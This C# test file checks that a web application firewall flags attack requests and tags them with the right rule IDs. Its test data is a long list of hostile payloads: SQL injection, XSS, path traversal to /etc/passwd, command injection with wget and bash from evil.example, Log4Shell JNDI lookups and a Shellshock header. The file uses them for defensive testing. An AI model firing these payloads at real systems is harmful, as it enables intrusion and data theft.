using GitGateway.Proxy.Policies.Waf;
using static GitGateway.Proxy.Tests.Policies.Waf.WafRequests;

namespace GitGateway.Proxy.Tests.Policies.Waf;

/// <summary>True positives: for every category, requests carrying a typical payload match the rule named.</summary>
public sealed class WafRuleTests
{
    [Theory]
    // SQL injection
    [InlineData("/items?id=1'%20OR%20'1'='1", 150100)]
    [InlineData("/items?id=1%2527%2520OR%2520%25271%2527%253D%25271", 150100)]
    [InlineData("/items?id=5%20or%201=1", 150101)]
    [InlineData("/items?q=x'%20UNION%20ALL%20SELECT%20password%20FROM%20users--", 150110)]
    [InlineData("/items?q=1'%20union/**/select%201,2", 150110)]
    [InlineData("/items?q=1;%20DROP%20TABLE%20users", 150120)]
    [InlineData("/items?id=1%20AND%20SLEEP(5)", 150130)]
    [InlineData("/login?user=admin'--", 150140)]
    [InlineData("/items?q=select%20*%20from%20information_schema.tables", 150150)]
    [InlineData("/items?q=1'%20into%20outfile%20'/tmp/x'", 150160)]
    [InlineData("/items?1'%20or%20'1'%3C'2=x", 150100)]
    // cross-site scripting
    [InlineData("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 140100)]
    [InlineData("/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E", 140110)]
    [InlineData("/go?url=javascript:alert(document.domain)", 140120)]
    [InlineData("/p?x=%3Csvg/onload=alert(1)%3E", 140130)]
    [InlineData("/p?x=%22%3E%3Ciframe%20src=//evil.example%3E", 140130)]
    [InlineData("/p?cb=String.fromCharCode(88,83,83)", 140140)]
    [InlineData("/p?x=%253Cscript%253E", 140100)]
    // path traversal and file inclusion
    [InlineData("/download?file=../../etc/passwd", 120100)]
    [InlineData("/download?file=..%5c..%5cwindows%5cwin.ini", 120100)]
    [InlineData("/static/..%2f..%2fapp/settings.json", 120110)]
    [InlineData("/static/%252e%252e%252fsecret", 120110)]
    [InlineData("/static/%c0%ae%c0%ae/secret", 120110)]
    [InlineData("/download?file=/proc/self/environ", 120120)]
    [InlineData("/.git/config", 120130)]
    [InlineData("/app/.env", 120130)]
    [InlineData("/page?file=php://filter/convert.base64-encode/resource=index.php", 120140)]
    // remote command injection
    [InlineData("/ping?host=127.0.0.1;cat%20/etc/passwd", 130100)]
    [InlineData("/ping?host=127.0.0.1%7Cid", 130100)]
    [InlineData("/ping?host=$(whoami)", 130100)]
    [InlineData("/ping?host=x%26%26wget%20http://evil.example/x.sh", 130100)]
    [InlineData("/ping?host=a%0Abash%20-i", 130100)]
    [InlineData("/x?v=$%7Bjndi:ldap://evil.example/a%7D", 130120)]
    [InlineData("/run?cmd=cmd.exe%20/c%20dir", 130130)]
    [InlineData("/x?code=%3C?php%20system('id');%20?%3E", 130140)]
    [InlineData("/x?name=%25%7B(%23_memberAccess)%7D", 130150)]
    // protocol enforcement
    [InlineData("/search?q=<b>", 100101)]
    [InlineData("/a%zz", 100110)]
    [InlineData("/file?name=a%00.jpg", 100120)]
    // scanners
    [InlineData("/?u=http://abc.oastify.com/", 110110)]
    public async Task Inspect_AttackInTarget_MatchesRule(string target, int rule)
    {
        var (rules, score) = await InspectAsync(Get(target));

        Assert.Contains(rule, rules);
        Assert.True(score >= WafRuleCatalog.All.Single(r => r.Id == rule).Score, $"score {score} for {string.Join(',', rules)}");
    }

    [Theory]
    [InlineData("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)", 110100)]
    [InlineData("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", 110100)]
    [InlineData("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'", 130110)]
    [InlineData("User-Agent", "${jndi:ldap://evil.example/a}", 130120)]
    [InlineData("Referer", "https://evil.example/?q=<script>alert(1)</script>", 140100)]
    [InlineData("Cookie", "session=abc; pref=1'%20OR%20'1'='1", 150100)]
    [InlineData("Cookie", "lang=../../../../etc/passwd", 120100)]
    [InlineData("Content-Type", "%{(#_='multipart/form-data').(#cmd='id')}", 130150)]
    [InlineData("Content-Type", "${jndi:ldap://evil.example/a}", 130120)]
    public async Task Inspect_AttackInHeader_MatchesRule(string header, string value, int rule)
    {
        var (rules, _) = await InspectAsync(Get("/", (header, value)));

        Assert.Contains(rule, rules);
    }

    [Fact]
    public async Task Inspect_HostHeaders_MissingAndDuplicatedMatch()
    {
        var missing = Get("/");
        missing.Request.Headers.Host = default;
        var duplicated = Get("/");
        duplicated.Request.Headers.Host = new(["a.example", "b.example"]);

        Assert.Contains(ProtocolRules.MissingHost.Id, (await InspectAsync(missing)).Rules);
        Assert.Contains(ProtocolRules.DuplicateHost.Id, (await InspectAsync(duplicated)).Rules);
    }

    [Fact]
    public async Task Inspect_ArgumentCountAndNameLength_OverLimitsMatch()
    {
        var many = string.Join('&', Enumerable.Range(0, ProtocolRules.MaxArguments + 1).Select(i => $"a{i}=1"));
        var longName = new string('n', ProtocolRules.MaxNameLength + 1) + "=1";
        var atLimit = string.Join('&', Enumerable.Range(0, ProtocolRules.MaxArguments).Select(i => $"a{i}=1"));

        Assert.Contains(ProtocolRules.TooManyArguments.Id, (await InspectAsync(Get("/?" + many))).Rules);
        Assert.Contains(100141, (await InspectAsync(Get("/?" + longName))).Rules);
        Assert.Empty((await InspectAsync(Get("/?" + atLimit))).Rules);
    }

    [Fact]
    public void Catalogue_EveryCategoryAndLevel_HasRulesWithUniqueIds()
    {
        var rules = WafRuleCatalog.All;

        Assert.All(Enum.GetValues<WafCategory>(), c => Assert.Contains(rules, r => r.Category == c));
        Assert.All(new[] { 1, 2, 3, 4 }, level => Assert.Contains(rules, r => r.ParanoiaLevel == level));
        Assert.Equal(rules.Count, rules.Select(r => r.Id).Distinct().Count());
        Assert.All(rules, r => Assert.InRange(r.Score, 2, 5));
    }
}
